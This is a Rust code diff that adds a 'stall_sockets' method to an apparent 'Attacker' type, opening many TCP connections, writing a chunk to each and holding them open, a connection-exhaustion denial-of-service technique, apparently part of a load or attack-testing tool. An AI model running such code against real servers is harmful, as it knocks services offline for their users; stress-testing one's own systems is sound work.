@@ -103,6 +103,23 @@ impl Attacker {
         written
     }
 
+    /// Opens so many sockets, writes each the chunk, and holds them until the end.
+    pub fn stall_sockets(&self, count: usize, flood: &Flood<'_>) -> usize {
+        let mut open = Vec::new();
+        while open.len() < count && self.goes_on() {
+            match self.greeted(flood) {
+                Ok(stream) => {
+                    // It may be closed already.
+                    let _ = stream.get_ref().write_all(flood.chunk);
+                    open.push(stream);
+                }
+                Err(_) => thread::sleep(BREATH),
+            }
+        }
+        self.hold();
+        open.len()
+    }
+
     fn greeted(&self, flood: &Flood<'_>) -> Result<BufReader<TcpStream>, Failure> {
         let stream = if flood.reads {
             self.dialer.connect(self.from)?
